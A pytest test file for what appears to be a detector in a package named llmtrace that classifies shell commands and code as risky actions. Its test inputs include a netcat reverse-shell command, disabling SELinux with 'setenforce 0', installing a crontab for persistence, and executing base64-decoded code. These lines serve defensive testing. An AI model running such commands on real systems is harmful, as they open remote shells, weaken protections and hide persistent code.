"""The table of rules."""

import re
from pathlib import Path

import pytest
import yaml

from llmtrace.analyzers.actions import catalogue, rules
from llmtrace.analyzers.actions.syntax import read_script
from llmtrace.analyzers.actions.unwrap import calls
from llmtrace.analyzers.kinds import kinds

ROOM = Path(rules.__file__).parent


def test_every_rule_is_listed_with_a_known_kind() -> None:
    rows = catalogue()
    assert len({row[0] for row in rows}) == len(rows) > 60
    assert all(kind in kinds() and about for _, kind, _, about in rows)


def test_every_rule_that_the_code_names_is_in_the_table() -> None:
    groups = "|".join({rule.split(".")[0] for rule, *_ in catalogue()})
    named = {
        found
        for path in ROOM.glob("*.py")
        for found in re.findall(rf'"((?:{groups})\.[a-z_]+)"', path.read_text("utf-8"))
        if not found.endswith((".yaml", ".example"))
    }
    assert named - {rule for rule, *_ in catalogue()} == set()


def test_hosts_are_of_rules_that_exist() -> None:
    lists = yaml.safe_load((ROOM / "hosts.yaml").read_text("utf-8"))["lists"]
    assert set(lists) <= {rule for rule, *_ in catalogue()}


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("setenforce 0", ["protection.off"]),
        ("setenforce 1", []),
        ("crontab -l", []),
        ("crontab x", ["persist.schedule"]),
        ("nc -e /bin/sh h 1", ["shell.reverse"]),
        ("docker run alpine", []),
    ],
)
def test_of_call(command: str, told: list[str]) -> None:
    (simple,) = read_script(command).simples()
    assert list(rules.of_call(calls(simple)[0])) == told


def test_of_code() -> None:
    assert "encoded.run" in list(rules.of_code("exec(base64.b64decode('x'))"))
    assert list(rules.of_code("print(base64.b64decode('x'))")) == []


def test_a_kind_that_does_not_exist_is_refused() -> None:
    with pytest.raises(ValueError, match=r"kinds\.yaml"):
        rules._rule({"id": "x", "kind": "nothing", "about": ""})


def test_a_pattern_that_is_not_re2s_is_refused() -> None:
    with pytest.raises(ValueError, match="'x'"):
        rules._matchers({"id": "x", "kind": "", "about": ""}, ["(?=a)"])
